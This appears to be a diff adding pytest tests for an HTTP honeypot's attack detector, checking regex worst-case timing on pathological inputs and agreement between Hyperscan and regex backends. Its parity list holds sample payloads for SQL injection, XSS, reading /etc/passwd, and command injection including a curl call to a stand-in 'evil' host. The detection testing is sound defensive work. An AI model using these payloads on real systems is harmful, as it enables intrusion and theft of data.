@@ -0,0 +1,114 @@
+"""
+Tests for the HTTP honeypot's AttackDetector:
+worst-case matching time on pathological input, and identical results
+from the Hyperscan and regex backends.
+"""
+
+import os
+import re
+import sys
+import time
+
+import pytest
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'honeypots'))
+
+from http_honeypot import AttackDetector  # noqa: E402
+
+
+# Wall-clock budget for matching one pathological input
+BUDGET_SECONDS = 0.1
+
+# Classic ReDoS shapes: long runs that an unbounded or nested repetition
+# would backtrack over, about 1 MB each
+PATHOLOGICAL_SIZE = 1_000_000
+PATHOLOGICAL_INPUTS = {
+    'script_then_gt': '<script' + '>' * PATHOLOGICAL_SIZE,
+    'unclosed_script_tags': '<script ' * (PATHOLOGICAL_SIZE // 8),
+    'quote_then_spaces': "'" + ' ' * PATHOLOGICAL_SIZE,
+    'repeated_quote_or': "' or " * (PATHOLOGICAL_SIZE // 5),
+    'union_without_select': 'union ' * (PATHOLOGICAL_SIZE // 6),
+    'dot_runs': '..' * (PATHOLOGICAL_SIZE // 2),
+    'unclosed_backticks': '`' * PATHOLOGICAL_SIZE,
+    'unclosed_subshells': '$(' * (PATHOLOGICAL_SIZE // 2),
+    'unclosed_tags': '<iframe' * (PATHOLOGICAL_SIZE // 7),
+    'semicolon_then_spaces': ';' + ' ' * PATHOLOGICAL_SIZE,
+}
+
+ALL_PATTERN_SOURCES = [
+    source
+    for _, sources in AttackDetector.CATEGORIES
+    for source in sources
+]
+
+PARITY_PAYLOADS = [
+    "1 union ../../etc/passwd select",
+    "<script>alert(1)</script>",
+    "admin' OR '1'='1 --",
+    "; cat /etc/passwd && id",
+    "<img src=x onerror=alert(document.cookie)>",
+    "$(curl http://evil) ; drop table users",
+    "hello world",
+]
+
+
+def _elapsed(func, *args):
+    start = time.perf_counter()
+    func(*args)
+    return time.perf_counter() - start
+
+
+@pytest.fixture
+def regex_backend(monkeypatch):
+    """Force the pure-regex code path"""
+    monkeypatch.setattr(AttackDetector, 'HYPERSCAN_DB', None)
+
+
+@pytest.mark.parametrize('source', ALL_PATTERN_SOURCES)
+@pytest.mark.parametrize('name', PATHOLOGICAL_INPUTS)
+def test_pattern_within_budget(name, source):
+    """Each pattern over the (length-capped) text the detector actually scans"""
+    pattern = re.compile(source, re.IGNORECASE)
+    text = PATHOLOGICAL_INPUTS[name][:AttackDetector.MAX_SCAN_LENGTH]
+
+    assert _elapsed(pattern.search, text) < BUDGET_SECONDS
+
+
+@pytest.mark.parametrize('name', PATHOLOGICAL_INPUTS)
+def test_analyze_payload_within_budget(name):
+    assert _elapsed(AttackDetector.analyze_payload, PATHOLOGICAL_INPUTS[name]) < BUDGET_SECONDS
+
+
+@pytest.mark.parametrize('name', PATHOLOGICAL_INPUTS)
+def test_analyze_payload_regex_within_budget(name, regex_backend):
+    assert _elapsed(AttackDetector.analyze_payload, PATHOLOGICAL_INPUTS[name]) < BUDGET_SECONDS
+
+
+@pytest.mark.skipif(AttackDetector.HYPERSCAN_DB is None, reason="hyperscan not installed")
+@pytest.mark.parametrize('payload', PARITY_PAYLOADS)
+def test_regex_fallback_matches_hyperscan(payload, monkeypatch):
+    hyperscan_result = AttackDetector.analyze_payload(payload)
+    monkeypatch.setattr(AttackDetector, 'HYPERSCAN_DB', None)
+    regex_result = AttackDetector.analyze_payload(payload)
+
+    assert regex_result == hyperscan_result
+
+
+@pytest.mark.parametrize('payload', PARITY_PAYLOADS)
+def test_fast_check_agrees_with_full_analysis(payload, regex_backend):
+    expected = AttackDetector.analyze_payload(payload)['is_malicious']
+
+    assert AttackDetector.analyze_payload_fast(payload) == expected
+
+
+@pytest.mark.parametrize('payload', PARITY_PAYLOADS)
+def test_category_detectors_agree_with_full_analysis(payload):
+    detectors = (
+        AttackDetector.detect_sql_injection,
+        AttackDetector.detect_xss,
+        AttackDetector.detect_path_traversal,
+        AttackDetector.detect_command_injection,
+    )
+    expected = AttackDetector.analyze_payload(payload)['patterns_detected']
+
+    assert [label for detect in detectors for label in detect(payload)] == expected